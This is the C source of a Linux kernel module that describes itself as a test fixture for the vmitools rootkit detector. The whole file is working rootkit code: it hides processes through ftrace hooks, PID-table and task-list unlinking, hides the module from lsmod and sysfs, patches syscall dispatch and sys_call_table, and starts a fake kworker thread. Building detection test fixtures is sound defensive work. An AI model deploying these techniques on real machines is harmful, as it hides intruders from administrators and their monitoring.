// SPDX-License-Identifier: GPL-2.0
/*
 * vmihide - TEST FIXTURE for vmitools, not a tool.
 *
 * Hides one process or this module itself inside a throw-away QEMU test guest, so that
 * vmitools' cross-view checks (task list vs. PID table vs. procfs vs. memory scan; module
 * list vs. sysfs vs. mod_tree) have a real hidden object to find. It is written for the
 * Debian 6.1 kernel (6.1.0-50-amd64) the test guests boot and is loaded only there, by
 * tests/hiding/boot-hiding-guest.py. Never load it on a machine you care about.
 *
 *   insmod vmihide.ko mode=MODE [pid=PID]
 *
 *   mode   kernel structure changed                       undone by rmmod
 *   a procfs    none: ftrace hooks on next_tgid() (readdir of /proc)     yes
 *               and proc_pid_lookup() (/proc/PID) skip the pid, whose
 *               cached /proc dentries are dropped
 *   b pidtable  init_pid_ns.idr: the pid's entry is removed, so          yes
 *               find_vpid(pid) is NULL (kill, /proc, ... see nothing)
 *   c tasklist  task_struct.tasks: unlinked from init_task.tasks         yes
 *   d modlist   module.list: unlinked from the `modules` list            no: rmmod finds no module
 *   e modsysfs  as d, and module.mkobj.kobj removed from sysfs           no
 *               (/sys/module/vmihide and its place in module_kset)
 *
 * Hook modes (tests/hiding/README.md, "Hook guests"): they change kernel code or hook
 * points, the way module rootkits hide today, and are all undone by rmmod.
 *   f getdents  ftrace hook (IPMODIFY) on __x64_sys_getdents64: the       yes
 *               pid's entry is cut from every directory listing
 *   g dispatch  the direct call/jump to __x64_sys_kill in x64_sys_call    yes
 *               now reaches hooked_kill: kill(pid, ...) is ESRCH
 *   h systable  sys_call_table[__NR_kill] points at hooked_kill (the      yes
 *               table is not what x86-64 dispatches through since the
 *               x64_sys_call change, so kill still works)
 *   i kprobe    a kprobe on __x64_sys_kill with our pre and post          yes
 *               handlers, left registered
 *   j kworker   a kernel thread named kworker/1:2 (the guests have one    yes
 *               CPU) running our own function
 * With hidden=1 a hook mode also unlinks this module from the `modules` list as mode d
 * does (sysfs keeps it); writing 1 to /sys/module/vmihide/parameters/unhide links it
 * back, so that rmmod finds it and undoes the hook.
 *
 * Modes a-c and f need pid= (a thread-group leader in the initial pid namespace). Symbols the
 * kernel does not export (next_tgid, proc_flush_pid, pidmap_lock, tasklist_lock,
 * module_mutex) are found with kallsyms_lookup_name(), whose own address a kprobe
 * reveals (it has not been exported since 5.7). tests/hiding/README.md says what each
 * mode leaves visible.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/ftrace.h>
#include <linux/idr.h>
#include <linux/kprobes.h>
#include <linux/kthread.h>
#include <linux/memory.h>
#include <linux/module.h>
#include <linux/dirent.h>	/* after module.h: it needs u64 */
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/spinlock.h>
#include <linux/uaccess.h>
#include <asm/text-patching.h>
#include <asm/tlbflush.h>
#include <asm/unistd.h>

static char *mode = "";
module_param(mode, charp, 0444);
MODULE_PARM_DESC(mode, "what to do: a|procfs b|pidtable c|tasklist d|modlist e|modsysfs "
		 "f|getdents g|dispatch h|systable i|kprobe j|kworker");
static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "process to hide (modes a-c, f; modes g, h make kill(pid) fail)");
static bool hidden;
module_param(hidden, bool, 0444);
MODULE_PARM_DESC(hidden, "hook modes f-j: also unlink this module from the module list");

enum hide_mode { PROCFS, PIDTABLE, TASKLIST, MODLIST, MODSYSFS,
		 GETDENTS, DISPATCH, SYSTABLE, KPROBE, KWORKER };
static const char *const mode_names[] = { "procfs", "pidtable", "tasklist", "modlist", "modsysfs",
					  "getdents", "dispatch", "systable", "kprobe", "kworker" };
static enum hide_mode hide_mode;
static bool is_hook_mode(void) { return hide_mode >= GETDENTS; }

/* ---- symbols the kernel does not export ------------------------------------------- */

static unsigned long (*lookup_name)(const char *name);

static int find_lookup_name(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int ret = register_kprobe(&kp);

	if (ret < 0)
		return ret;
	/* Debian 6.1 has no X86_KERNEL_IBT, so kp.addr is the function's first byte. */
	lookup_name = (void *)kp.addr;
	unregister_kprobe(&kp);
	return 0;
}

static void *symbol(const char *name)
{
	void *addr = (void *)lookup_name(name);

	if (!addr)
		pr_err("symbol %s not found\n", name);
	return addr;
}

/*
 * procfs keeps a dentry for /proc/PID once anything has looked it up, and later lookups
 * are answered from the dcache without reaching proc_pid_lookup(). The victim usually
 * has made one itself: a static glibc program (busybox) reads /proc/self/exe at start.
 * Drop them the way release_task() does at exit; procfs makes new ones only through the
 * paths that modes a and b close.
 */
static void (*flush_pid_dentries)(struct pid *pid);	/* proc_flush_pid() */

/* ---- mode a: ftrace hooks on the /proc readdir and lookup paths ------------------- */

/* fs/proc/base.c, not in any header; 16 bytes, so returned in rax:rdx. */
struct tgid_iter {
	unsigned int tgid;
	struct task_struct *task;
};
static struct tgid_iter (*real_next_tgid)(struct pid_namespace *ns, struct tgid_iter iter);

/*
 * proc_pid_readdir() walks the pids with next_tgid() and creates a dentry for each pid it
 * gets back (proc_fill_cache) before emitting the name. Filtering here, before that
 * dentry exists, keeps a later lookup of /proc/PID from finding it in the dcache.
 */
static struct tgid_iter notrace hooked_next_tgid(struct pid_namespace *ns, struct tgid_iter iter)
{
	/* No sleeping in here: module exit waits for preempt-off sections to end. */
	preempt_disable();
	iter = real_next_tgid(ns, iter);
	while (iter.task && iter.tgid == pid) {
		/* next_tgid() drops the reference to iter.task itself. */
		iter.tgid += 1;
		iter = real_next_tgid(ns, iter);
	}
	preempt_enable();
	return iter;
}

/* What proc_pid_lookup() returns for a pid that has no task. */
static struct dentry *notrace no_such_pid(struct dentry *dentry, unsigned int flags)
{
	return ERR_PTR(-ENOENT);
}

struct hook {
	const char *name;
	struct ftrace_ops ops;
	unsigned long addr;
};

/* The ftrace callback runs at the entry of the hooked function, before its body. */
static void notrace readdir_hook(unsigned long ip, unsigned long parent_ip,
				 struct ftrace_ops *ops, struct ftrace_regs *fregs)
{
	/* Our own call to the real next_tgid() must not be redirected again. */
	if (!within_module(parent_ip, THIS_MODULE))
		ftrace_instruction_pointer_set(fregs, (unsigned long)hooked_next_tgid);
}

static void notrace lookup_hook(unsigned long ip, unsigned long parent_ip,
				struct ftrace_ops *ops, struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);
	const struct dentry *dentry;
	unsigned int nr;

	if (!regs)
		return;
	/* proc_pid_lookup(struct dentry *dentry, unsigned int flags): dentry in rdi. */
	dentry = (const struct dentry *)regs->di;
	if (kstrtouint(dentry->d_name.name, 10, &nr) == 0 && nr == pid)
		ftrace_instruction_pointer_set(fregs, (unsigned long)no_such_pid);
}

#define HOOK_FLAGS (FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY)
static struct hook procfs_hooks[] = {
	{ .name = "next_tgid", .ops = { .func = readdir_hook, .flags = HOOK_FLAGS } },
	{ .name = "proc_pid_lookup", .ops = { .func = lookup_hook, .flags = HOOK_FLAGS } },
};

static void detach_hooks(struct hook *hooks, int n)
{
	while (n-- > 0) {
		unregister_ftrace_function(&hooks[n].ops);
		ftrace_set_filter_ip(&hooks[n].ops, hooks[n].addr, 1, 0);
	}
	/* A caller still inside a replacement has preemption off: wait for it. */
	synchronize_rcu();
}

/* Attaches each hook's ops to its function (the addresses set by the caller). */
static int attach_hooks(struct hook *hooks, int n)
{
	int i, ret;

	for (i = 0; i < n; i++) {
		ret = ftrace_set_filter_ip(&hooks[i].ops, hooks[i].addr, 0, 0);
		if (ret) {
			pr_err("ftrace_set_filter_ip(%s) failed: %d\n", hooks[i].name, ret);
			goto fail;
		}
		ret = register_ftrace_function(&hooks[i].ops);
		if (ret) {
			pr_err("register_ftrace_function(%s) failed: %d\n", hooks[i].name, ret);
			ftrace_set_filter_ip(&hooks[i].ops, hooks[i].addr, 1, 0);
			goto fail;
		}
	}
	return 0;
fail:
	detach_hooks(hooks, i);
	return ret;
}

static int hide_from_procfs(void)
{
	struct pid *p;
	int i, ret;

	for (i = 0; i < ARRAY_SIZE(procfs_hooks); i++) {
		procfs_hooks[i].addr = (unsigned long)symbol(procfs_hooks[i].name);
		if (!procfs_hooks[i].addr)
			return -ENOENT;
	}
	flush_pid_dentries = symbol("proc_flush_pid");
	if (!flush_pid_dentries)
		return -ENOENT;
	real_next_tgid = (void *)procfs_hooks[0].addr;
	ret = attach_hooks(procfs_hooks, ARRAY_SIZE(procfs_hooks));
	if (ret)
		return ret;
	p = find_get_pid(pid);
	if (!p) {
		detach_hooks(procfs_hooks, ARRAY_SIZE(procfs_hooks));
		return -ESRCH;
	}
	flush_pid_dentries(p);
	put_pid(p);
	return 0;
}

/* ---- mode b: remove the pid from the PID table (init_pid_ns.idr) ------------------ */

static spinlock_t *pidmap_lock;
static struct pid *hidden_pid;	/* our reference keeps it allocated */

/*
 * free_pid() at the task's exit calls idr_remove() for the number again, which is a
 * no-op for a missing entry, so the task may exit while hidden. Until pid_max wraps the
 * cyclic allocator does not hand the number out again.
 */
static int hide_from_pid_table(void)
{
	struct pid *p;

	pidmap_lock = symbol("pidmap_lock");
	flush_pid_dentries = symbol("proc_flush_pid");
	if (!pidmap_lock || !flush_pid_dentries)
		return -ENOENT;
	p = find_get_pid(pid);
	if (!p || p->level != 0 || !pid_has_task(p, PIDTYPE_PID)) {
		put_pid(p);
		return -ESRCH;
	}
	spin_lock_irq(pidmap_lock);
	idr_remove(&init_pid_ns.idr, pid);
	spin_unlock_irq(pidmap_lock);
	hidden_pid = p;
	flush_pid_dentries(p);
	return 0;
}

static void restore_pid_table(void)
{
	int ret = 0;

	idr_preload(GFP_KERNEL);
	spin_lock_irq(pidmap_lock);
	/* A task that exited meanwhile has detached from the pid: leave it out. */
	if (pid_has_task(hidden_pid, PIDTYPE_PID))
		ret = idr_alloc(&init_pid_ns.idr, hidden_pid, pid, pid + 1, GFP_ATOMIC);
	spin_unlock_irq(pidmap_lock);
	idr_preload_end();
	if (ret < 0)
		pr_err("could not put pid %d back: %d\n", pid, ret);
	put_pid(hidden_pid);
}

/* ---- mode c: unlink the task from the task list (init_task.tasks) ----------------- */

static rwlock_t *tasklist_lock_p;
static struct task_struct *hidden_task;	/* our reference keeps it allocated */

static int hide_from_task_list(void)
{
	struct task_struct *t;

	tasklist_lock_p = symbol("tasklist_lock");
	if (!tasklist_lock_p)
		return -ENOENT;
	rcu_read_lock();
	t = pid_task(find_vpid(pid), PIDTYPE_PID);
	if (t)
		get_task_struct(t);
	rcu_read_unlock();
	if (!t)
		return -ESRCH;
	if (!thread_group_leader(t)) {	/* only leaders are on the list */
		put_task_struct(t);
		return -EINVAL;
	}
	write_lock_irq(tasklist_lock_p);
	list_del_rcu(&t->tasks);
	write_unlock_irq(tasklist_lock_p);
	/*
	 * list_del_rcu() leaves a poisoned prev pointer, and release_task() would run
	 * list_del_rcu() on it again at exit (a crash). Once no RCU reader can be standing
	 * on the entry, let it point to itself: deleting that again is harmless.
	 */
	synchronize_rcu();
	write_lock_irq(tasklist_lock_p);
	INIT_LIST_HEAD(&t->tasks);
	write_unlock_irq(tasklist_lock_p);
	hidden_task = t;
	return 0;
}

static void restore_task_list(void)
{
	write_lock_irq(tasklist_lock_p);
	if (pid_alive(hidden_task))	/* not released meanwhile */
		list_add_tail_rcu(&hidden_task->tasks, &init_task.tasks);
	write_unlock_irq(tasklist_lock_p);
	put_task_struct(hidden_task);
}

/* ---- modes d and e: hide this module ------------------------------------------------ */

static struct mutex *module_mutex_p;
static bool unlinked;	/* hidden=1: set_unhide() may link it back */

static int hide_module(bool from_sysfs)
{
	module_mutex_p = symbol("module_mutex");
	if (!module_mutex_p)
		return -ENOENT;
	/* /proc/modules, lsmod, kallsyms and find_module() (so rmmod) walk this list. */
	mutex_lock(module_mutex_p);
	list_del_rcu(&THIS_MODULE->list);
	mutex_unlock(module_mutex_p);
	synchronize_rcu();
	INIT_LIST_HEAD(&THIS_MODULE->list);
	/* Removes /sys/module/vmihide (with parameters/) and takes it out of module_kset. */
	if (from_sysfs)
		kobject_del(&THIS_MODULE->mkobj.kobj);
	return 0;
}

/* ---- mode f: ftrace hook on the getdents64 system call ---------------------------- */

static long (*real_getdents64)(const struct pt_regs *regs);

/* Cuts every entry named like the pid out of what the real system call returned. */
static long notrace hooked_getdents64(const struct pt_regs *regs)
{
	struct linux_dirent64 __user *user_buf = (struct linux_dirent64 __user *)regs->si;
	long len = real_getdents64(regs);
	long off = 0;
	char name[16];
	char *buf;

	if (len <= 0)
		return len;
	buf = kvmalloc(len, GFP_KERNEL);
	if (!buf)
		return len;
	if (copy_from_user(buf, user_buf, len))
		goto out;
	snprintf(name, sizeof(name), "%d", pid);
	while (off < len) {
		struct linux_dirent64 *d = (struct linux_dirent64 *)(buf + off);
		unsigned short reclen = d->d_reclen;

		if (reclen == 0 || off + reclen > len)
			break;
		if (strcmp(d->d_name, name) == 0) {
			memmove(buf + off, buf + off + reclen, len - off - reclen);
			len -= reclen;
			continue;
		}
		off += reclen;
	}
	if (copy_to_user(user_buf, buf, len))
		len = -EFAULT;
out:
	kvfree(buf);
	return len;
}

static void notrace getdents_hook(unsigned long ip, unsigned long parent_ip,
				  struct ftrace_ops *ops, struct ftrace_regs *fregs)
{
	if (!within_module(parent_ip, THIS_MODULE))
		ftrace_instruction_pointer_set(fregs, (unsigned long)hooked_getdents64);
}

static struct hook getdents_hooks[] = {
	{ .name = "__x64_sys_getdents64", .ops = { .func = getdents_hook, .flags = HOOK_FLAGS } },
};

static int hook_getdents(void)
{
	struct pid *p;
	int ret;

	getdents_hooks[0].addr = (unsigned long)symbol(getdents_hooks[0].name);
	flush_pid_dentries = symbol("proc_flush_pid");
	if (!getdents_hooks[0].addr || !flush_pid_dentries)
		return -ENOENT;
	real_getdents64 = (void *)getdents_hooks[0].addr;
	ret = attach_hooks(getdents_hooks, ARRAY_SIZE(getdents_hooks));
	if (ret)
		return ret;
	/* Not needed to hide from readdir; keeps the guest's views the same as mode a's. */
	p = find_get_pid(pid);
	if (p) {
		flush_pid_dentries(p);
		put_pid(p);
	}
	return 0;
}

/* ---- modes g and h: kill(pid, ...) answered by hooked_kill ------------------------ */

static long (*real_kill)(const struct pt_regs *regs);

static long notrace hooked_kill(const struct pt_regs *regs)
{
	if ((pid_t)regs->di == pid)
		return -ESRCH;
	return real_kill(regs);
}

#define BRANCH_SIZE 5	/* e8/e9 rel32 */
static u8 *dispatch_site;
static u8 dispatch_saved[BRANCH_SIZE];
static struct mutex *text_mutex_p;
static void (*poke_text)(void *addr, const void *opcode, size_t len, const void *emulate);

/*
 * x64_sys_call() is a switch over the system-call number whose cases call or jump to the
 * __x64_sys_* functions directly (6.9, backported to 6.1.85). Find the rel32 branch to
 * __x64_sys_kill among its bytes and point it at hooked_kill (modules sit within 2 GiB
 * of the kernel's text, as rel32 needs). text_poke_bp() is how the kernel patches its
 * own live text.
 */
static int patch_dispatch(void)
{
	int (*size_of)(unsigned long addr, unsigned long *size, unsigned long *offset);
	unsigned long size = 0, offset = 0, i;
	u8 *fn = symbol("x64_sys_call");
	u8 insn[BRANCH_SIZE];
	long rel;

	real_kill = symbol("__x64_sys_kill");
	text_mutex_p = symbol("text_mutex");
	poke_text = symbol("text_poke_bp");
	size_of = symbol("kallsyms_lookup_size_offset");
	if (!fn || !real_kill || !text_mutex_p || !poke_text || !size_of)
		return -ENOENT;
	if (!size_of((unsigned long)fn, &size, &offset) || offset != 0 || size < BRANCH_SIZE)
		return -ENOENT;
	for (i = 0; i + BRANCH_SIZE <= size; i++) {
		if ((fn[i] == 0xe8 || fn[i] == 0xe9) &&
		    fn + i + BRANCH_SIZE + *(s32 *)(fn + i + 1) == (u8 *)real_kill) {
			dispatch_site = fn + i;
			break;
		}
	}
	if (!dispatch_site) {
		pr_err("no branch to __x64_sys_kill in x64_sys_call (%lu bytes)\n", size);
		return -ENOENT;
	}
	rel = (long)hooked_kill - (long)(dispatch_site + BRANCH_SIZE);
	if (rel != (s32)rel)
		return -ERANGE;
	memcpy(dispatch_saved, dispatch_site, BRANCH_SIZE);
	insn[0] = dispatch_site[0];
	*(s32 *)(insn + 1) = (s32)rel;
	mutex_lock(text_mutex_p);
	poke_text(dispatch_site, insn, BRANCH_SIZE, NULL);
	mutex_unlock(text_mutex_p);
	pr_info("x64_sys_call+%#lx now branches to hooked_kill\n", (unsigned long)(dispatch_site - fn));
	return 0;
}

static void unpatch_dispatch(void)
{
	mutex_lock(text_mutex_p);
	poke_text(dispatch_site, dispatch_saved, BRANCH_SIZE, NULL);
	mutex_unlock(text_mutex_p);
	synchronize_rcu();
}

static unsigned long *table_slot;
static unsigned long table_saved;

/* sys_call_table is read-only data: lift the write protection of its page for one store. */
static void write_read_only(unsigned long *where, unsigned long value)
{
	unsigned int level;
	pte_t *pte = lookup_address((unsigned long)where, &level);
	unsigned long flags;
	pte_t old;

	local_irq_save(flags);
	old = *pte;
	set_pte(pte, pte_mkwrite(old));
	__flush_tlb_all();
	WRITE_ONCE(*where, value);
	set_pte(pte, old);
	__flush_tlb_all();
	local_irq_restore(flags);
}

static int rewrite_table(void)
{
	unsigned long *table = symbol("sys_call_table");

	real_kill = symbol("__x64_sys_kill");
	if (!table || !real_kill)
		return -ENOENT;
	if (table[__NR_kill] != (unsigned long)real_kill) {
		pr_err("sys_call_table[%d] is not __x64_sys_kill\n", __NR_kill);
		return -EINVAL;
	}
	table_slot = &table[__NR_kill];
	table_saved = *table_slot;
	write_read_only(table_slot, (unsigned long)hooked_kill);
	return 0;
}

/* ---- mode i: a kprobe left registered ------------------------------------------------ */

static unsigned long probe_hits;

static int notrace probe_pre(struct kprobe *p, struct pt_regs *regs)
{
	probe_hits++;
	return 0;
}

static void notrace probe_post(struct kprobe *p, struct pt_regs *regs, unsigned long flags)
{
}

static struct kprobe probe = {
	.symbol_name = "__x64_sys_kill",
	.pre_handler = probe_pre,
	.post_handler = probe_post,
};

/* ---- mode j: a kernel thread posing as a workqueue worker ---------------------------- */

static struct task_struct *fake_worker;

static int fake_worker_fn(void *unused)
{
	while (!kthread_should_stop())
		schedule_timeout_interruptible(HZ);
	return 0;
}

static int start_fake_worker(void)
{
	fake_worker = kthread_run(fake_worker_fn, NULL, "kworker/1:2");
	return IS_ERR(fake_worker) ? PTR_ERR(fake_worker) : 0;
}

/* ---- hidden=1: off the module list, and back on request ------------------------------ */

static int set_unhide(const char *val, const struct kernel_param *kp)
{
	struct list_head *modules = symbol("modules");
	bool yes;
	int ret = kstrtobool(val, &yes);

	if (ret)
		return ret;
	if (!yes || !unlinked || !modules)
		return yes && unlinked ? -ENOENT : 0;
	mutex_lock(module_mutex_p);
	list_add_rcu(&THIS_MODULE->list, modules);
	unlinked = false;
	mutex_unlock(module_mutex_p);
	pr_info("back on the module list\n");
	return 0;
}

static const struct kernel_param_ops unhide_ops = { .set = set_unhide };
module_param_cb(unhide, &unhide_ops, NULL, 0200);
MODULE_PARM_DESC(unhide, "write 1: put a hidden=1 module back on the module list");

static void undo_hook(void)
{
	switch (hide_mode) {
	case GETDENTS: detach_hooks(getdents_hooks, ARRAY_SIZE(getdents_hooks)); break;
	case DISPATCH: unpatch_dispatch(); break;
	case SYSTABLE: write_read_only(table_slot, table_saved); break;
	case KPROBE:   unregister_kprobe(&probe); break;
	case KWORKER:  kthread_stop(fake_worker); break;
	default: break;
	}
}

/* ---- load and unload ------------------------------------------------------------------ */

static int parse_mode(void)
{
	int i;

	for (i = 0; i < ARRAY_SIZE(mode_names); i++) {
		if ((mode[0] == 'a' + i && mode[1] == '\0') || !strcmp(mode, mode_names[i])) {
			hide_mode = i;
			return 0;
		}
	}
	pr_err("unknown mode '%s' (a|procfs b|pidtable c|tasklist d|modlist e|modsysfs f|getdents "
	       "g|dispatch h|systable i|kprobe j|kworker)\n", mode);
	return -EINVAL;
}

static int __init vmihide_init(void)
{
	int ret = parse_mode();

	if (ret)
		return ret;
	if (hidden && !is_hook_mode()) {
		pr_err("hidden=1 is for the hook modes f-j\n");
		return -EINVAL;
	}
	if ((hide_mode <= TASKLIST || hide_mode == GETDENTS || hide_mode == DISPATCH ||
	     hide_mode == SYSTABLE) && pid <= 1) {
		pr_err("mode %s needs pid=PID (> 1)\n", mode_names[hide_mode]);
		return -EINVAL;
	}
	ret = find_lookup_name();
	if (ret) {
		pr_err("no kprobe on kallsyms_lookup_name: %d\n", ret);
		return ret;
	}
	switch (hide_mode) {
	case PROCFS:   ret = hide_from_procfs(); break;
	case PIDTABLE: ret = hide_from_pid_table(); break;
	case TASKLIST: ret = hide_from_task_list(); break;
	case MODLIST:  ret = hide_module(false); break;
	case MODSYSFS: ret = hide_module(true); break;
	case GETDENTS: ret = hook_getdents(); break;
	case DISPATCH: ret = patch_dispatch(); break;
	case SYSTABLE: ret = rewrite_table(); break;
	case KPROBE:   ret = register_kprobe(&probe); break;
	case KWORKER:  ret = start_fake_worker(); break;
	}
	if (ret) {
		pr_err("mode %s failed: %d\n", mode_names[hide_mode], ret);
		return ret;
	}
	if (is_hook_mode()) {
		if (hidden) {
			ret = hide_module(false);
			if (ret) {
				undo_hook();
				return ret;
			}
			unlinked = true;
		}
		pr_info("test fixture: mode %s hooks%s\n", mode_names[hide_mode],
			hidden ? ", module hidden" : "");
	} else if (hide_mode <= TASKLIST)
		pr_info("test fixture: mode %s hides pid %d\n", mode_names[hide_mode], pid);
	else
		pr_info("test fixture: mode %s hides module %s\n", mode_names[hide_mode], THIS_MODULE->name);
	return 0;
}

/* Only modes a-c and f-j can get here: in d and e rmmod cannot find the module any more. */
static void __exit vmihide_exit(void)
{
	switch (hide_mode) {
	case PROCFS:   detach_hooks(procfs_hooks, ARRAY_SIZE(procfs_hooks)); break;
	case PIDTABLE: restore_pid_table(); break;
	case TASKLIST: restore_task_list(); break;
	default: undo_hook(); break;
	}
	pr_info("mode %s undone\n", mode_names[hide_mode]);
}

module_init(vmihide_init);
module_exit(vmihide_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmitools test fixture: hides a process or itself, or hooks the kernel, in a test guest");
